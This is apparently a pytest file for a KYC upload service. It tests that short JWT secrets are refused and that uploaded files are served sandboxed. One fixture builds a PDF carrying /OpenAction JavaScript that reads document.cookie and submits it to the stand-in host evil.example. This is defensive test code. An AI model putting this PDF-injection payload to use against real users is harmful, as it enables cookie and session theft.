"""OWASP API Security Top 10 (2023), API8: Security Misconfiguration

Items of issue 15 that belong here: stored files cannot run in the auditor's browser (11), weak production settings are refused (17). Each test fails on the code before the fix."""

from __future__ import annotations


def _production_settings(tmp_path, **overrides):
    from app.config import Settings
    from app.document_keys import generate_key_spec

    values = {"environment": "production", "data_dir": tmp_path, "mongodb_uri": "mongodb://db.example:27017",
              "document_encryption_key": generate_key_spec(), "document_fingerprint_key": generate_key_spec(),
              "jwt_secret": "s" * 32, **overrides}
    return Settings(_env_file=None, **values)


def test_a_jwt_secret_shorter_than_32_bytes_is_refused_at_start_up(tmp_path):
    """HS256 with a short secret can be brute-forced offline from one token (RFC 7518 §3.2 asks for a
    key as long as the hash, 256 bits); the secret also keys the stored OTP hashes."""
    import pytest

    from app.main import create_app

    for environment in ("production", "development"):
        with pytest.raises(RuntimeError, match=r"JWT_SECRET is 31 bytes; it must be at least 32") as refused:
            create_app(_production_settings(tmp_path, environment=environment, jwt_secret="k" * 31))
        assert "Traceback" not in str(refused.value)
    # Bytes, not characters: 16 two-byte characters are 32 bytes and pass.
    create_app(_production_settings(tmp_path, jwt_secret="ü" * 16))
    create_app(_production_settings(tmp_path, jwt_secret="k" * 32))
    assert not (tmp_path / "jwt_secret").exists()  # production never generates one


# --- item 11: stored files cannot run in the auditor's browser ------------------------------------

def _pdf_with_open_action(page_bgr) -> bytes:
    """A one-page PDF of `page_bgr` (written by Pillow, as a scanner app would) whose catalog, in an
    incremental update, runs JavaScript when the document opens (/OpenAction) and names it as a
    document-level script too, which pypdfium2 (the service's PDF library) then counts."""
    import io
    import re

    import cv2
    from PIL import Image

    out = io.BytesIO()
    Image.fromarray(cv2.cvtColor(page_bgr, cv2.COLOR_BGR2RGB)).save(out, format="PDF", resolution=150)
    base = out.getvalue()
    root = int(re.search(rb"/Root (\d+) 0 R", base).group(1))
    pages = re.search(rb"%d 0 obj\s*<<.*?/Pages (\d+) 0 R" % root, base, re.S).group(1)
    size = int(re.search(rb"/Size (\d+)", base).group(1))
    prev = int(re.findall(rb"startxref\s+(\d+)", base)[-1])
    script = size
    objects = [
        (root, b"<< /Type /Catalog /Pages %s 0 R /OpenAction %d 0 R /Names << /JavaScript << /Names [(open) %d 0 R]"
               b" >> >> >>" % (pages, script, script)),
        (script, b"<< /Type /Action /S /JavaScript /JS (app.alert\\(document.cookie\\); this.submitForm\\("
                 b"'https://evil.example/'\\);) >>"),
    ]
    body, offsets = bytearray(base + b"\n"), {}
    for number, content in objects:
        offsets[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    xref = len(body)
    body += b"xref\n0 1\n0000000000 65535 f \n"
    for number in sorted(offsets):
        body += b"%d 1\n%010d 00000 n \n" % (number, offsets[number])
    body += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size + 1, root, prev, xref)
    return bytes(body)


async def test_a_pdf_with_open_action_javascript_is_never_served_inline_and_every_file_is_sandboxed(api):
    """Decision: the PDF is kept as uploaded (the audit record; e-Aadhaar and DigiLocker PDFs carry a
    signature only the original proves). The file link shows what the checks read, its first page
    rendered as a PNG, inline; `?original=true` gives the bytes as uploaded, as an attachment. Every
    stored file is served with `Content-Security-Policy: sandbox` and `nosniff`."""
    import pypdfium2 as pdfium
    import pypdfium2.raw as pdfium_c

    from tests.conftest import bearer
    from tests.integration.test_kyc_api import PAN, PERSON, customer, upload
    from tests.ml import cards

    pdf = _pdf_with_open_action(cards.aadhaar_front(PERSON))
    document = pdfium.PdfDocument(pdf)  # a valid PDF whose script the PDF library itself sees
    assert len(document) == 1 and pdfium_c.FPDFDoc_GetJavaScriptActionCount(document.raw) == 1
    document.close()

    who = await customer(api)
    r = await upload(api, who, "aadhaar", pdf, name="aadhaar.pdf")
    assert r.status_code == 201, r.text
    kyc_id = r.json()["kyc_id"]
    assert (await upload(api, who, "pan", PAN)).status_code == 201
    auditor = bearer(await api.staff("auditor"))
    detail = (await api.client.get(f"/kyc/{kyc_id}", headers=auditor)).json()
    links = {f["content_type"]: f["url"].removeprefix("/api/v1") for f in detail["files"]}

    def sandboxed(response) -> None:
        directives = [d.strip() for d in response.headers["content-security-policy"].split(";")]
        assert "sandbox" in directives and "default-src 'none'" in directives, response.headers
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["cache-control"] == "no-store"

    shown = await api.client.get(links["application/pdf"], headers=auditor)
    assert shown.status_code == 200, shown.text
    sandboxed(shown)
    assert shown.headers["content-type"] == "image/png" and shown.headers["content-disposition"] == "inline"
    assert shown.content.startswith(b"\x89PNG\r\n\x1a\n") and b"JavaScript" not in shown.content

    original = await api.client.get(links["application/pdf"], params={"original": "true"}, headers=auditor)
    assert original.status_code == 200
    sandboxed(original)
    assert original.content == pdf and original.headers["content-type"] == "application/pdf"
    assert original.headers["content-disposition"] == f'attachment; filename="{links["application/pdf"].rsplit("/", 1)[1]}.pdf"'

    image = await api.client.get(links["image/jpeg"], headers=auditor)
    sandboxed(image)
    assert image.content == PAN and image.headers["content-disposition"] == "inline"
    image = await api.client.get(links["image/jpeg"], params={"original": "true"}, headers=auditor)
    sandboxed(image)
    assert image.content == PAN and image.headers["content-disposition"].startswith("attachment; ")
